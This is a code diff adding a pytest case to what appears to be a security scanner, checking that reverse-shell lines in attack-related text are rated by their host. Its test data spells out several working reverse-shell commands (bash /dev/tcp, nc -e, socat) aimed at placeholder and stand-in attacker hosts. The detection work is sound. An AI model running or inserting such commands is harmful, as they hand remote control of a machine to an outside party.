@@ -392,3 +392,19 @@ def test_manifests_of_plugins_and_extensions_start_servers_and_are_not_settings(
     rules = {each.rule for each in found.findings if each.outcome is Outcome.FAIL}
     assert "agents.command-packages-pinned" in rules
     assert not rules & {"agents.settings-servers-placed", "agents.settings-keys-known"}
+
+
+@pytest.mark.parametrize(
+    ("line", "counted"),
+    [
+        ("bash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1", "info"),
+        ("bash -i >& /dev/tcp/$LHOST/4444 0>&1", "info"),
+        ("nc -e /bin/sh $LHOST 4444", "info"),
+        ("socat TCP:attacker:4444 EXEC:/bin/sh", "info"),
+        ("bash -i >& /dev/tcp/evil.tools.net/4444 0>&1", "high"),
+        ("nc -e /bin/sh evil.tools.net 4444", "high"),
+        ("nc -e /bin/sh $X 4444", "high"),
+    ],
+)
+def test_a_remote_shell_in_a_text_about_attacks_counts_by_its_host(line: str, counted: str, tmp_path: Path) -> None:
+    assert severities(tmp_path, TESTING + shell(line), DOWNLOADS) == [counted]
